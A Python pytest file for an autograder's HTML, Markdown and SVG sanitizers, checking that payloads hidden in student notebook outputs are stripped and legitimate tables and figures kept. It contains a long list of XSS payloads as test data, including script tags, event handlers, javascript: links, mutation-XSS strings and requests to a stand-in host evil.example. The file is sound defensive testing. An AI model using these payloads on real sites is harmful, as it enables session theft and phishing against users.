"""What students display can't run, load, submit or escape; what is honest stays."""

from __future__ import annotations

import base64
import io
from typing import Any

import nbformat
import pytest

from autograder.feedback import render_feedback
from autograder.sanitize_html import clean_html, clean_outputs, render_markdown
from autograder.sanitize_svg import clean_svg

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode("ascii")

# name -> (kind of output, payload, what would be dangerous on a page)
HTML = {
    "script": ("<script>steal()</script>", "<script>steal"),
    "script-src": ('<script src="https://evil.example/x.js"></script>', "evil.example"),
    "handler": ('<img src="x" onerror="steal()">', "onerror"),
    "handler-case": ('<IMG SRC=x oNeRrOr=steal()>', "steal()"),
    "svg-onload": ('<svg onload="steal()"></svg>', "onload"),
    "svg-script": ("<svg><script>steal()</script></svg>", "steal()"),
    "svg-animate": ('<svg><a><animate attributeName="href" values="javascript:steal()"/></a></svg>',
                    "javascript:"),
    "math-href": ('<math><mtext xlink:href="javascript:steal()">x</mtext></math>', "javascript:"),
    "mutation": ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
                 "onerror=steal()&gt;\">", "onerror"),
    "noscript": ('<noscript><p title="</noscript><img src=x onerror=steal()>">', "onerror"),
    "javascript-link": ('<a href="javascript:steal()">x</a>', "javascript:"),
    "javascript-entities": ('<a href="jav&#x0A;ascript:steal()">x</a>', "steal()"),
    "data-link": ('<a href="data:text/html,<script>steal()</script>">x</a>', "data:text/html"),
    "vbscript": ('<a href="vbscript:steal">x</a>', "vbscript:"),
    "relative-link": ('<a href="/hub/logout">x</a>', "/hub/logout"),
    "iframe": ('<iframe src="https://evil.example"></iframe>', "<iframe"),
    "iframe-srcdoc": ('<iframe srcdoc="<script>steal()</script>"></iframe>', "srcdoc"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "<object"),
    "embed": ('<embed src="https://evil.example/x.swf">', "<embed"),
    "form": ('<form action="https://evil.example"><input name="password"></form>',
             "<form"),
    "formaction": ('<button formaction="javascript:steal()">x</button>', "formaction"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
    "base": ('<base href="https://evil.example/">', "evil.example"),
    "link": ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
    "style-import": ('<style>@import "https://evil.example/x.css";</style>', "@import"),
    "style-fixed": ('<div style="position: fixed; top: 0">x</div>', "position"),
    "style-negative": ('<div style="margin-top: -500px">x</div>', "margin-top"),
    "style-url": ('<p style="background-image: url(https://evil.example/x)">x</p>', "evil.example"),
    "style-escape": ('<p style="background: u\\72l(https://evil.example)">x</p>', "evil.example"),
    "image-beacon": ('<img src="https://evil.example/beacon.png">', "evil.example"),
    "srcset": ('<img srcset="https://evil.example/x 1x">', "evil.example"),
    "video": ('<video src="https://evil.example/x" autoplay onplay="steal()"></video>', "<video"),
    "class": ('<div class="navbar navbar-fixed-top">x</div>', "navbar-fixed-top"),
    "id": ('<a id="score_double" name="top">x</a>', 'id="score_double"'),
    "comment": ("<!--<img src='--><img src=x onerror=steal()>", "onerror"),
    "template": ("<template><script>steal()</script></template>", "steal()"),
    "tex-href": (r"$\href{javascript:steal()}{x}$", r"\href"),
}
LATEX = {
    "latex-href": (r"$$\href{javascript:steal()}{x}$$", r"\href{"),
    "latex-style": (r"$$\style{position:fixed}{x}$$", r"\style{"),
    "latex-require": (r"$$\require{html}$$", r"\require{"),
}
MARKDOWN = {
    "markdown-script": ("hi <script>steal()</script>", "<script>steal"),
    "markdown-link": ("[x](javascript:steal())", "javascript:"),
    "markdown-image": ("![x](https://evil.example/x.png)", "evil.example"),
    "markdown-handler": ('<b onmouseover="steal()">x</b>', "onmouseover"),
}
OTHER = {
    "javascript": ("application/javascript", "steal()", "steal()"),
    "widget": ("application/vnd.jupyter.widget-view+json", "steal()", "steal()"),
    "pdf": ("application/pdf", "steal()", "steal()"),
    "svg-handler": ("image/svg+xml", f'<svg {SVG} onload="steal()"><rect/></svg>', "steal()"),
    "svg-in-script": ("image/svg+xml", f"<svg {SVG}><script>steal()</script></svg>", "steal()"),
    "svg-foreign": (
        "image/svg+xml",
        f'<svg {SVG}><foreignObject><b onclick="steal()">x</b></foreignObject></svg>', "steal()",
    ),
    "svg-external": (
        "image/svg+xml", f'<svg {SVG}><image xlink:href="https://evil.example/x.png"/></svg>',
        "evil.example",
    ),
    "svg-use": (
        "image/svg+xml", f'<svg {SVG}><use xlink:href="https://evil.example/x.svg#a"/></svg>',
        "evil.example",
    ),
    "svg-style": (
        "image/svg+xml",
        f"<svg {SVG}><style>@import url(https://evil.example)</style></svg>", "evil.example",
    ),
    "svg-entity": (
        "image/svg+xml", f'<!DOCTYPE svg [<!ENTITY x "steal()">]><svg {SVG}><text>&x;</text></svg>',
        "steal()",
    ),
    "svg-is-html": ("image/svg+xml", '"><script>steal()</script>', "steal()"),
    "png-breaks-out": ("image/png", '"><script>steal()</script>', "steal()"),
    "png-is-html": (
        "image/png", base64.b64encode(b"<script>steal()</script>").decode("ascii"),
        base64.b64encode(b"<script>steal()</script>").decode("ascii"),
    ),
}  # fmt: skip
PAYLOADS: dict[str, tuple[str, str, str]] = {
    **{name: ("text/html", *rest) for name, rest in HTML.items()},
    **{name: ("text/latex", *rest) for name, rest in LATEX.items()},
    **{name: ("text/markdown", *rest) for name, rest in MARKDOWN.items()},
    **OTHER,
}  # fmt: skip


def notebook(data: dict[str, Any]) -> Any:
    cell = nbformat.v4.new_code_cell("show()", id="a")
    cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    return nbformat.v4.new_notebook(cells=[cell])


GIVEN = {"score": 0.0, "max_score": 1.0, "late_penalty": 0.0, "grades": {}, "comments": {}}


def page(node: Any) -> str:
    """The feedback page's body, decoded where it holds a picture of an SVG."""
    text = render_feedback(nbformat.writes(node), "x", GIVEN)
    body = text.split("<body", 1)[1]
    marker = "data:image/svg+xml;base64,"
    if marker in body:
        body += base64.b64decode(body.split(marker)[1].split('"')[0]).decode("utf-8")
    return body


@pytest.mark.parametrize("name", PAYLOADS)
def test_each_payload_is_dangerous_as_it_is_and_gone_when_cleaned(name: str) -> None:
    kind, payload, danger = PAYLOADS[name]
    node = notebook({kind: payload})
    assert danger in str(node.cells[0].outputs[0]["data"][kind])
    clean_outputs(node.cells)
    assert danger not in str(node.cells[0].outputs)
    nbformat.validate(node)
    body = page(notebook({kind: payload}))
    assert danger not in body
    assert "evil.example" not in body


def test_without_the_sanitizer_the_page_is_dangerous(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("autograder.sanitize_html.clean_outputs", lambda cells: None)
    shown = [
        name for name, (kind, payload, danger) in PAYLOADS.items()
        if kind == "text/html" and danger in page(notebook({kind: payload}))
    ]  # fmt: skip
    # The page is written anew by an HTML parser, which changes the spelling of some.
    assert len(shown) >= 25, sorted(set(HTML) - set(shown))


@pytest.mark.parametrize(
    ("payload", "danger"),
    [*HTML.values(), *MARKDOWN.values(), ("![a](attachment:nowhere.png)", "nowhere")],
)
def test_markdown_cells_of_the_student_too(payload: str, danger: str) -> None:
    cell = nbformat.v4.new_markdown_cell(payload, id="a")
    assert danger not in page(nbformat.v4.new_notebook(cells=[cell]))
    assert danger not in render_markdown(payload)


def test_attachments_are_pictures_or_nothing() -> None:
    bad = {"image/svg+xml": "PHN2Zy8+", "text/html": "eA==", "image/png": '"><script>steal()'}
    cell = nbformat.v4.new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png)", id="a")
    cell["attachments"] = {"a.png": bad, "b.png": {"image/png": PNG}}
    text = page(nbformat.v4.new_notebook(cells=[cell]))
    assert "steal()" not in text
    assert f"data:image/png;base64,{PNG}" in text


def test_error_text_and_ansi_are_text() -> None:
    cell = nbformat.v4.new_code_cell("1/0", id="a")
    cell.outputs = [
        nbformat.v4.new_output("error", ename="<b>E", evalue="<script>steal()</script>",
                               traceback=["\x1b[31m<script>steal()</script>\x1b[0m"]),
        nbformat.v4.new_output("stream", name="stdout", text="<img src=x onerror=steal()>\x07"),
    ]  # fmt: skip
    text = page(nbformat.v4.new_notebook(cells=[cell]))
    assert "<script>steal" not in text
    assert "<img src=x" not in text
    assert "&lt;script&gt;steal()" in text
    assert "ansi-red-fg" in text


def test_metadata_of_outputs_can_not_break_out() -> None:
    node = notebook({"image/png": PNG, "text/html": "<b>x</b>"})
    node.cells[0].outputs[0]["metadata"] = {
        "image/png": {"width": "1 onload=steal()", "height": 5, "alt": "steal()"},
        "text/html": {"isolated": True}, "filenames": {"image/png": "https://evil.example"},
    }  # fmt: skip
    clean_outputs(node.cells)
    assert node.cells[0].outputs[0]["metadata"] == {"image/png": {"height": 5}}


TABLE = """<div>
<style scoped>.dataframe tbody tr th {vertical-align: top;}</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
  <tbody><tr><th>0</th><td>1</td></tr></tbody>
</table>
<p>1 rows × 1 columns</p></div>"""


def test_an_honest_table_stays() -> None:
    cleaned = clean_html(TABLE)
    for words in ('<table border="1" class="dataframe">', '<tr style="text-align:right">',
                  "<th>a</th>", "<td>1</td>", "1 rows × 1 columns"):  # fmt: skip
        assert words in cleaned
    assert "vertical-align" not in cleaned
    assert clean_html(cleaned) == cleaned


def test_an_honest_figure_stays() -> None:
    plt = pytest.importorskip("matplotlib.pyplot")
    figure, axes = plt.subplots()
    axes.plot([1, 2, 3])
    axes.imshow([[1, 2], [3, 4]])
    buffer, picture = io.StringIO(), io.BytesIO()
    figure.savefig(buffer, format="svg")
    figure.savefig(picture, format="png")
    plt.close(figure)
    raw, cleaned = buffer.getvalue(), clean_svg(buffer.getvalue())
    for word in ("<path", "clip-path", "<use", "data:image/png;base64,"):
        assert cleaned.count(word) == raw.count(word), word
    assert clean_svg(cleaned) == cleaned
    png = base64.encodebytes(picture.getvalue()).decode("ascii")
    node = notebook({"image/png": png, "text/plain": "<Figure>"})
    clean_outputs(node.cells)
    assert base64.b64decode(node.cells[0].outputs[0]["data"]["image/png"]) == picture.getvalue()


def test_mathematics_code_and_printed_tables_stay() -> None:
    source = "$\\frac{a}{b} < 1$\n\n```python\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    rendered = render_markdown(source)
    assert r"$\frac{a}{b} &lt; 1$" in rendered
    assert '<span class="n">x</span>' in rendered
    assert "<table>" in rendered
    text = "one_hot: 2 of 4\n  FAIL  values   <- here\nHint: a < b & c\n"
    cell = nbformat.v4.new_code_cell("score()", id="a")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    shown = page(nbformat.v4.new_notebook(cells=[cell]))
    assert "  FAIL  values   &lt;- here\nHint: a &lt; b &amp; c\n" in shown
    latex = notebook({"text/latex": r"$$\sum_i x_i$$"})
    clean_outputs(latex.cells)
    assert latex.cells[0].outputs[0]["data"]["text/latex"] == r"$$\sum_i x_i$$"


def test_the_formgrader_renders_markdown_safely(released: Any) -> None:
    from nbconvert.exporters import HTMLExporter

    from autograder.nbgrader_bridge import load_config

    exporter = HTMLExporter(config=load_config(released))
    cell = nbformat.v4.new_markdown_cell("<script>steal()</script><b onclick=steal()>x</b>", id="a")
    text, _ = exporter.from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
    assert "steal()" not in text
    assert "<b>x</b>" in text
